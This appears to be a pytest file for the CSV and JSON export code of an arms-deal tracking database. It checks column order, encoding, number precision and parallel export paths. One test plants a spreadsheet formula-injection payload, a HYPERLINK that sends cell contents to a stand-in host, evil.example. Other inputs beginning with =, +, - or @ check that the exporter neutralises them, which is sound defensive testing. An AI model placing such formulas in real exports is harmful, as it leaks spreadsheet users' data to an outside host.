"""Exports: documented columns, formula-safe CSV bytes, JSON with the same field names."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import Engine

from benchmarks.generate import generate
from tracker import exports
from tracker.auth import Actor
from tracker.domain.vocab import Role
from tracker.exports import EXPORT_COLUMNS, export_bytes, export_csv, neutralise, write_csv
from tracker.read.filters import DealFilters
from tracker.read.rows import iter_deals
from tracker.store.db import make_session_factory, transaction
from tracker.write.catalogue import add_platform
from tracker.write.deals import add_deal, delete_deal

from factories import EDITOR, deal_data

REQUIRED_COLUMNS = [
    "deal_id",
    "buyer",
    "buyer_iso3",
    "seller",
    "seller_iso3",
    "platform",
    "category",
    "quantity",
    "quantity_delivered",
    "condition",
    "value_amount",
    "value_currency",
    "value_year",
    "status",
    "order_date",
    "sources",
]


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_columns_start_with_the_documented_dictionary() -> None:
    assert list(EXPORT_COLUMNS[: len(REQUIRED_COLUMNS)]) == REQUIRED_COLUMNS


def test_csv_is_utf8_with_bom_and_documented_header(seeded_sqlite: Engine) -> None:
    with make_session_factory(seeded_sqlite)() as s:
        data = export_bytes(s, DealFilters(), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    header = data.decode("utf-8-sig").splitlines()[0]
    assert header.split(",") == list(EXPORT_COLUMNS)


def test_formula_in_notes_is_neutralised_on_the_bytes(seeded_sqlite: Engine) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with transaction(seeded_sqlite) as s:
        add_deal(actor=EDITOR, session=s, deal_in=deal_data(notes=evil, programme="+1 programme"))
    with make_session_factory(seeded_sqlite)() as s:
        data = export_bytes(s, DealFilters(text="HYPERLINK"), "csv")
    assert b"'=HYPERLINK(" in data
    assert b',"=HYPERLINK(' not in data and b",=HYPERLINK(" not in data
    row = _csv_rows(data)[0]
    assert row["notes"] == "'" + evil
    assert row["programme"] == "'+1 programme"
    assert row["quantity"] == "8"  # numbers stay numbers


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}cmd") == f"'{start}cmd"


def test_harmless_text_is_unchanged() -> None:
    assert neutralise("F-16 Block 70 Viper") == "F-16 Block 70 Viper"


def test_csv_parses_back_to_the_same_rows_as_json(seeded_sqlite: Engine) -> None:
    with make_session_factory(seeded_sqlite)() as s:
        as_csv = _csv_rows(export_bytes(s, DealFilters(buyers=("Turkey",)), "csv"))
        as_json = json.loads(export_bytes(s, DealFilters(buyers=("Turkey",)), "json"))
    assert len(as_csv) == len(as_json) == 7
    for from_csv, from_json in zip(as_csv, as_json, strict=True):
        assert set(from_csv) == set(from_json) == set(EXPORT_COLUMNS)
        assert from_csv["deal_id"] == str(from_json["deal_id"])
        assert from_csv["quantity"] == (
            "" if from_json["quantity"] is None else str(from_json["quantity"])
        )
        assert from_csv["value_amount"] == (from_json["value_amount"] or "")


def test_unknowns_export_as_empty_not_zero(seeded_sqlite: Engine) -> None:
    with make_session_factory(seeded_sqlite)() as s:
        rows = _csv_rows(export_bytes(s, DealFilters(platforms=("F-35",)), "csv"))
        deals = json.loads(export_bytes(s, DealFilters(platforms=("F-35",)), "json"))
    assert rows[0]["quantity"] == "" and deals[0]["quantity"] is None


def test_money_keeps_its_decimal_digits(seeded_sqlite: Engine) -> None:
    with transaction(seeded_sqlite) as s:
        add_deal(
            actor=EDITOR,
            session=s,
            deal_in=deal_data(
                value_amount="1234567890123.45", value_currency="EUR", notes="precise"
            ),
        )
    with make_session_factory(seeded_sqlite)() as s:
        row = json.loads(export_bytes(s, DealFilters(text="precise"), "json"))[0]
    assert (row["value_amount"], row["value_currency"]) == ("1234567890123.45", "EUR")


def test_sources_column_names_the_articles(seeded_sqlite: Engine) -> None:
    with make_session_factory(seeded_sqlite)() as s:
        rows = _csv_rows(export_bytes(s, DealFilters(platforms=("S-400",)), "csv"))
    assert "Press TV" in rows[0]["sources"] and "Natural News" in rows[0]["sources"]


# --- the whole-export fast path writes what the row path writes ---------------------------


@pytest.fixture
def varied_engine(seeded_engine: Engine) -> Engine:
    """Seeds, 300 synthetic deals, a deleted deal and text that needs neutralising."""
    generate(seeded_engine, deals=300, seed=7)
    with transaction(seeded_engine) as s:
        add_platform(
            actor=EDITOR, session=s, platform_in={"designation": "-9 Drone", "category": "aircraft"}
        )
        add_deal(
            actor=EDITOR,
            session=s,
            deal_in=deal_data(
                platform="-9 Drone", notes="=1+1", programme="@SUM(A1)", ref="+ref",
                order_date="2024-02-15", value_amount="1234.5", value_currency="EUR",
                value_year=2024, quantity_unit="-batteries",
            ),
        )  # fmt: skip
        doomed = add_deal(actor=EDITOR, session=s, deal_in=deal_data(notes="deleted later"))
    with transaction(seeded_engine) as s:
        delete_deal(
            session=s, actor=Actor("erin", Role.EDITOR, 1), deal_id=doomed.id, seen_version=1
        )
    return seeded_engine


@pytest.mark.parametrize(
    "filters",
    [
        DealFilters(),
        DealFilters(buyers=["Turkey"]),
        DealFilters(categories=["aircraft"], year_from=1990),
        DealFilters(text="drone"),
        DealFilters(buyers=["Turkey"], year_from=1950, year_to=1951),
    ],
    ids=["all", "buyer", "category-years", "text", "narrow"],
)
def test_export_csv_writes_the_same_bytes_as_the_row_path(
    varied_engine: Engine, filters: DealFilters
) -> None:
    with make_session_factory(varied_engine)() as s:
        fast = io.StringIO()
        count = export_csv(s, filters, fast)
        slow = io.StringIO()
        expected_count = write_csv(iter_deals(s, filters), slow)
    assert count == expected_count
    assert fast.getvalue() == slow.getvalue()
    if filters == DealFilters():
        assert count > 300  # the synthetic deals are there; the deleted one is not
        assert "deleted later" not in fast.getvalue()
        assert ",'-9 Drone," in fast.getvalue() and "'=1+1" in fast.getvalue()


def test_export_csv_is_whole_after_yield_per_on_the_connection(varied_engine: Engine) -> None:
    """yield_per set on the session's connection itself makes SQLAlchemy read rows ahead
    of the driver's cursor: the export must not lose them (its first deal, say)."""
    with make_session_factory(varied_engine)() as s:
        s.connection().execution_options(yield_per=7)
        fast = io.StringIO()
        count = export_csv(s, DealFilters(), fast)
        slow = io.StringIO()
        expected_count = write_csv(iter_deals(s, DealFilters()), slow)
    assert count == expected_count
    assert fast.getvalue() == slow.getvalue()


# --- a large CSV export on two cores (a forked child writes the second half) ---------------


@pytest.fixture
def two_cores(monkeypatch: pytest.MonkeyPatch) -> None:
    """Split every export, however small, and whatever threads the test runner keeps."""
    monkeypatch.setattr(exports, "PARALLEL_CSV_FROM", 1)
    monkeypatch.setattr(exports, "_fork_safe", lambda: True)


@pytest.mark.parametrize(
    "filters", [DealFilters(), DealFilters(buyers=["Turkey"]), DealFilters(text="drone")],
    ids=["all", "buyer", "text"],
)  # fmt: skip
def test_a_split_export_writes_the_same_bytes(
    varied_engine: Engine, filters: DealFilters, two_cores: None
) -> None:
    with make_session_factory(varied_engine)() as s:
        split = io.StringIO()
        count = export_csv(s, filters, split)
        # SQLite splits; PostgreSQL (its own server processes already) exports in one.
        postgres = varied_engine.dialect.name == "postgresql"
        assert (exports._two_process_split(s, filters) is None) is postgres
        whole = io.StringIO()
        expected = write_csv(iter_deals(s, filters), whole)
    assert count == expected
    assert split.getvalue() == whole.getvalue()


@pytest.mark.parametrize("child", ["fails", "saw another version"])
def test_a_split_export_writes_the_second_half_itself_when_the_child_s_is_unusable(
    varied_engine: Engine, two_cores: None, monkeypatch: pytest.MonkeyPatch, child: str
) -> None:
    def unusable(url: str, filters: DealFilters, base: int, median: int, path: Path) -> int:
        if child == "fails":
            return 1
        path.write_text("999999\r\ngarbage that must not appear\r\n", encoding="utf-8")
        path.with_suffix(".count").write_text("1", encoding="utf-8")
        return 0

    monkeypatch.setattr(exports, "_write_second_half", unusable)
    with make_session_factory(varied_engine)() as s:
        split = io.StringIO()
        count = export_csv(s, DealFilters(), split)
        whole = io.StringIO()
        expected = write_csv(iter_deals(s, DealFilters()), whole)
    assert count == expected
    assert split.getvalue() == whole.getvalue()
    assert "garbage" not in split.getvalue()
